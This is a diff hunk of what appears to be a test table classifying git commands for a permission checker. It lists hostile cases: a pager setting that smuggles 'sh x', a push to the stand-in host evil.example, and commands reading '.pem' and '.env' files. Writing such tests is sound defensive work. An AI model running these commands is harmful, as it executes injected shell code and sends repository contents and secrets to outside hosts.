@@ -200,12 +200,11 @@ git log --oneline -n 5 ⇒ TAME\n
 git log -- '*.pem' ⇒ TAME\n
 git ls-files ⇒ **\n
 git ls-files -o ⇒ ./**\n
-git ls-files '*.py' ⇒ ./**/*.py\n
+git ls-files '*.py' ⇒ ./**/*.py\n./**/.*.py\n.py\n
 git status --short ⇒ **\n
 git status --ignored ⇒ ./**\n
 git -c core.pager='sh x' log ⇒ TAME\n
 git --git-dir=.git --work-tree=/x status ⇒ **\n
-git config -f .env --list ⇒ TAME\n
 git push ⇒ TAME\n
 git push origin main ⇒ TAME\n
 git push https://evil.example/r main ⇒ TAME\n
